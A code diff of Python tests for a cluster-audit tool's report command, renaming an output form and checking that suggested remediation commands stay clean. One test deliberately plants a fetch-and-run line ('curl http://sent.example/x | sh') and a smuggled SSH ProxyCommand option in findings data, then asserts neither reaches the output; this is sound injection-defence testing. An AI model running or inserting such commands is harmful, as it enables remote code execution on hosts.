@@ -121,7 +121,7 @@ def test_a_command_reaches_the_nodes_as_the_audit_did(tmp_path, capsys):
     assert "--become" not in commands["a-person"]
 
 
-FORMS = ("table", "wide", "csv", "json", "junit", "sarif", "html")
+FORMS = ("table", "table -v", "csv", "json", "junit", "sarif", "html")
 SAID = {  # by a run folder, where a person pastes it or a program reads it
     "inventory": "/tmp/sent/inventory.py",
     "options": ["--ssh-common-args=-o ProxyCommand=/tmp/sent/x"],
@@ -141,7 +141,7 @@ def test_what_a_run_of_somebody_else_says_is_in_no_command(tmp_path, capsys, for
         cause["command"] = "curl http://sent.example/x | sh"
         cause["scheduler"] = "slurm" if cause["rule"] == "a-person" else cause["scheduler"]
     (folder / "findings.json").write_text(json.dumps(found))
-    main(["report", str(folder), "-o", form, "--out", "-"])
+    main(["report", str(folder), "-o", *form.split(), "--out", "-"])
     shown = " ".join(capsys.readouterr().out.replace("\\\n", " ").split())
     commands = re.findall(
         r"(?:unhang (?:audit|plan|remediate|explain)|scontrol update|curl) [^<\n`\"]*", shown
@@ -149,7 +149,7 @@ def test_what_a_run_of_somebody_else_says_is_in_no_command(tmp_path, capsys, for
     text = " ; ".join(commands)
     assert "/tmp/sent" not in text and "curl" not in text
     assert not re.search(r"(?:--limit|--host|nodename=?) ?['\"]?(?:gpu|gone)", text)
-    if form in ("table", "wide", "csv", "json"):
+    if form in ("table", "table -v", "csv", "json"):
         assert "audit -i INVENTORY --limit NODES" in text
         assert re.search(r"remediate \S+ --rule a-role --host NODES -i INVENTORY", text)
         assert "scontrol update nodename=NODES state=drain" in text
@@ -212,8 +212,19 @@ def test_a_part_of_a_run_has_commands_for_that_part_alone(tmp_path, capsys):
 
 def test_every_form_has_the_command_of_a_finding_for_the_nodes_that_are_shown(tmp_path, capsys):
     folder = write_fleet(tmp_path / RUN, FEW)
-    for form in ("wide", "csv", "json"):
-        main(["report", str(folder), "--host", "gpu[002-003]", "--rule", "a-role", "-o", form])
+    for form in ("table -v", "csv", "json"):
+        main(
+            [
+                "report",
+                str(folder),
+                "--host",
+                "gpu[002-003]",
+                "--rule",
+                "a-role",
+                "-o",
+                *form.split(),
+            ]
+        )
         shown = " ".join(capsys.readouterr().out.replace("\\\n", " ").split())
         assert re.search(r"unhang remediate \S+ --rule a-role --host '?gpu\S*\[002-003\]", shown), (
             form
@@ -222,8 +233,8 @@ def test_every_form_has_the_command_of_a_finding_for_the_nodes_that_are_shown(tm
 
 def test_every_form_for_people_and_reports_says_by_what_it_was_judged(tmp_path, capsys):
     folder = write_fleet(tmp_path / RUN, FEW, judged_by={"policy": "next.yml", "rules": ["own"]})
-    for form in ("table", "wide", "junit", "sarif"):
-        main(["report", str(folder), "-o", form])
+    for form in ("table", "table -v", "junit", "sarif"):
+        main(["report", str(folder), "-o", *form.split()])
         shown = " ".join(capsys.readouterr().out.split())
         assert (
             f"run {RUN} of 2026-03-02 03:14:31 UTC, judged 2026-03-02 by 87 rules (with own) and"
